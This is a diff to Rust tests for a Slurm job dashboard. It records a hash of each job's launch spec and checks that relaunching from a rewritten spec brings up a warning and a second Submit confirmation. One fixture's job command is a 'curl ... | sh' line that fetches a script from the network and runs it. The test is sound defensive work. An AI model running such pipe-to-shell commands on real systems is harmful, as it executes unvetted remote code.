@@ -260,6 +260,7 @@ fn templates_preview_test_only_and_submit() {
             attempts: Vec::new(),
             secrets: Vec::new(),
             checksum: None,
+            spec_sha256: None,
             requeue: false,
             guard: None,
         },
@@ -413,6 +414,7 @@ fn a_submitted_job_stays_selected_through_a_stale_poll_and_sacct_is_asked_when_i
             attempts: Vec::new(),
             secrets: Vec::new(),
             checksum: None,
+            spec_sha256: None,
             guard: None,
             requeue: false,
         },
@@ -650,4 +652,101 @@ fn the_preview_says_which_sbatch_variables_of_the_login_apply() {
         screen.contains("SBATCH_QOS=high: applies to this job (the form does not set it)"),
         "{screen}"
     );
+}
+
+/// `L` on launch 48 (this laptop recorded its spec's sha256 as `launched`), reading a spec
+/// whose sha256 is `read`.
+fn relaunched(launched: Option<&str>, read: &str) -> App {
+    let mut a = app();
+    let id = JobId::new(48);
+    a.cluster.chains.insert(
+        48,
+        crate::retry::Chain {
+            local_id: "L48".into(),
+            job_dir: "/r/L48".into(),
+            name: "hello".into(),
+            attempt: 1,
+            attempts: 1,
+            max_attempts: 11,
+            previous: Vec::new(),
+            guard: None,
+            secrets: Vec::new(),
+            spec_sha256: launched.map(str::to_string),
+        },
+    );
+    let spec = LaunchSpec {
+        name: "hello".into(),
+        partition: "short".into(),
+        account: "research".into(),
+        gpus: 1,
+        cpus_per_task: 1,
+        time: "10m".into(),
+        command: "curl -s https://example.org/x | sh".into(),
+        ..LaunchSpec::default()
+    };
+    let cmds = a.update(Msg::Relaunch {
+        id,
+        result: Box::new(Ok(crate::payload::Relaunchable {
+            spec,
+            spec_sha256: read.into(),
+            used: None,
+        })),
+    });
+    assert_eq!(cmds, vec![Cmd::FetchLaunchFacts]);
+    a.update(Msg::LaunchFacts(Ok(facts())));
+    if let Some(f) = a.form.as_mut() {
+        f.local_id = "20261123-120000-abcdef".into();
+        f.revalidate();
+    }
+    a
+}
+
+const SPEC_CHANGED: &str = "the job's specs/launch.json changed since it was launched: check the command and environment before you submit";
+
+/// The job rewrote its own `specs/launch.json` (its command, environment or image, which
+/// `L` takes from there): the form says so, and Submit asks once more before it runs.
+#[test]
+fn a_relaunch_from_a_rewritten_spec_warns_and_asks_before_it_submits() {
+    let mut a = relaunched(Some("aaaa"), "bbbb");
+    let form = a.form.as_ref().expect("open");
+    assert!(form.problems.is_empty(), "{:?}", form.problems);
+    let screen = render(&a, 110, 42);
+    let shown = screen
+        .lines()
+        .filter_map(|l| l.split('│').nth(2))
+        .map(str::trim)
+        .collect::<Vec<_>>()
+        .join(" ");
+    assert!(shown.contains(&format!("⚠ {SPEC_CHANGED}")), "{screen}");
+    insta::assert_snapshot!("launch_form_relaunch_of_a_rewritten_spec", screen);
+    a.form.as_mut().expect("open").row = FormState::submit_row();
+    assert!(
+        press(&mut a, KeyCode::Enter).is_empty(),
+        "submitted at once"
+    );
+    let screen = render(&a, 110, 42);
+    assert!(
+        screen
+            .contains("job 48's specs/launch.json is not the one launched: enter on Submit again"),
+        "{screen}"
+    );
+    let cmds = press(&mut a, KeyCode::Enter);
+    assert!(matches!(cmds.as_slice(), [Cmd::Submit { .. }]), "{cmds:?}");
+}
+
+/// The spec as launched, or a launch recorded before slurmdash kept the spec's hash: no
+/// warning, Submit submits.
+#[test]
+fn a_relaunch_from_the_spec_as_launched_asks_nothing_more() {
+    for (launched, read) in [(Some("aaaa"), "aaaa"), (None, "bbbb")] {
+        let mut a = relaunched(launched, read);
+        assert!(
+            a.form.as_ref().expect("open").spec_changed.is_none(),
+            "{launched:?}"
+        );
+        assert!(!render(&a, 110, 42).contains("specs/launch.json changed"));
+        a.form.as_mut().expect("open").row = FormState::submit_row();
+        let cmds = press(&mut a, KeyCode::Enter);
+        assert!(matches!(cmds.as_slice(), [Cmd::Submit { .. }]), "{cmds:?}");
+    }
 }
